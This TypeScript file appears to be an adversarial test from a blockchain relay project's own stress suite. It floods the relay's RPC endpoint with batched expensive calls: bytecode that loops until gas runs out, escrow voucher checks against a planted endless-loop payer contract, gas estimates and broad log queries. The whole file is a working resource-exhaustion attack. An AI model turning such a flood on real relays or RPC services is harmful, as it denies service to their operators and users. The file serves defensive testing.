import * as v from 'valibot'
import { encodeFunctionData, toHex, type Address } from 'viem'
import { escrowAbi } from '#shared/abi/escrow.ts'
import { stakeData } from '#shared/chain/calls.ts'
import type { NetworkFile } from '#shared/chain/network-file.ts'
import { networkInfoSchema } from '#shared/mesh/network-info.ts'
import { MAX_RPC_BATCH, RPC_PARALLEL_PER_ADDRESS } from '../../../relay/chain/limits.ts'
import type { Attack } from '../attack.ts'
import { hostileAddress } from '../tools/from-address.ts'
import { postFrom } from '../tools/post-from.ts'
import { rpcSetting } from '../tools/rpc-setting.ts'
import { tellUntilEnd } from '../tools/tell-until-end.ts'

/** Code that runs until its gas is gone: a place to jump to, its number, and the jump. */
const ENDLESS = '0x5b600056'
/** A payer with that code: asked whether it signed a voucher, it takes all gas that there is. */
const PAYER: Address = '0x2222222222222222222222222222222222222222'
/** What a relay once passed on of any call, and what it passes on of ours. */
const MUCH_GAS = toHex(30_000_000)
const OUR_GAS = toHex(3_000_000)
const PAUSE_MS = 20

/** What is kept waiting are questions to the chain, of which each goes to its node: the pool is never remembered. */
export const setting = rpcSetting('eth_getTransactionCount', [
  '0x1111111111111111111111111111111111111111',
  'pending',
])

/**
 * One address that has as many batches under way as it may: of code of its own that never ends, brought along or as the
 * contract of a payer whose voucher is looked at; of estimates; and of the longest look through logs. Each is another
 * question, so that no answer is remembered.
 */
export const attack: Attack = async ({ relays }, { signal, tell }) => {
  const origin = new URL(relays[0]?.url ?? '')
  const localAddress = hostileAddress(1)
  const info = await postFrom({ url: new URL('/network.json', origin), localAddress }, signal)
  const { chain } = v.parse(v.pick(networkInfoSchema, ['chain']), JSON.parse(info.text))
  if (!chain) throw new Error('the relay settles on no chain')
  const { stake } = chain.contracts
  const [{ escrow } = { escrow: stake }] = chain.escrows
  await putCode(chain, signal)
  let made = 0
  const account = (): Address => `0x${(++made).toString(16).padStart(40, '0')}`
  const kinds: (() => unknown)[] = [
    () => call('eth_call', { from: account(), data: ENDLESS, gas: MUCH_GAS }),
    () => call('eth_call', { to: escrow, data: voucherCall(account()), gas: MUCH_GAS }),
    () => call('eth_call', { to: escrow, data: voucherCall(account()), gas: OUR_GAS }),
    () =>
      call('eth_estimateGas', { from: account(), to: stake, data: stakeData('withdraw', []), gas: OUR_GAS }),
    () => ({
      ...REQUEST,
      method: 'eth_getLogs',
      params: [{ address: stake, fromBlock: toHex(++made % 10) }],
    }),
  ]
  let [requests, bytes] = [0, 0]
  const ask = async (kind: () => unknown): Promise<void> => {
    const body = JSON.stringify(Array.from({ length: MAX_RPC_BATCH }, kind))
    requests++
    bytes += body.length
    await postFrom({ url: new URL('/rpc', origin), localAddress, body }, signal).catch(() => undefined)
  }
  const workers = Array.from({ length: RPC_PARALLEL_PER_ADDRESS }, async (_, i) => {
    // Whoever has saved the most of its rate spends it on the dearest.
    for (let n = i % 3; !signal.aborted; n++) {
      await ask(kinds[n % kinds.length] ?? kinds[0] ?? account)
      // One that is refused comes back at once, but not as fast as its own processor can.
      await new Promise((resolve) => setTimeout(resolve, PAUSE_MS))
    }
  })
  while (requests < 2 * RPC_PARALLEL_PER_ADDRESS && !signal.aborted)
    await new Promise((resolve) => setTimeout(resolve, PAUSE_MS))
  await tellUntilEnd(signal, () => tell({ addresses: 1, sockets: requests, requests, bytes }))
  await Promise.all(workers)
}

const REQUEST = { jsonrpc: '2.0', id: 1 } as const

function call(method: 'eth_call' | 'eth_estimateGas', what: object): unknown {
  return { ...REQUEST, method, params: [what, 'latest'] }
}

/** Asks what a voucher of that payer would bring a provider. */
function voucherCall(provider: Address): string {
  const zero = toHex(0, { size: 32 })
  const voucher = { payer: PAYER, epoch: 0, provider, model: zero, relay: provider, cumulative: 1n }
  const args = [{ voucher, signer: PAYER, signature: `0x${'11'.repeat(65)}` }] as const
  return encodeFunctionData({ abi: escrowAbi, functionName: 'claimable', args })
}

/** Puts the payer's code on the chain, as anybody could for some cents. */
async function putCode({ rpcUrls }: NetworkFile, signal: AbortSignal): Promise<void> {
  const body = { ...REQUEST, method: 'anvil_setCode', params: [PAYER, ENDLESS] }
  const headers = { 'Content-Type': 'application/json' }
  const init = { method: 'POST', headers, body: JSON.stringify(body), signal }
  const said = (await (await fetch(rpcUrls[0] ?? '', init)).json()) as { readonly error?: unknown }
  if (said.error !== undefined) throw new Error(`no code was put there: ${JSON.stringify(said.error)}`)
}
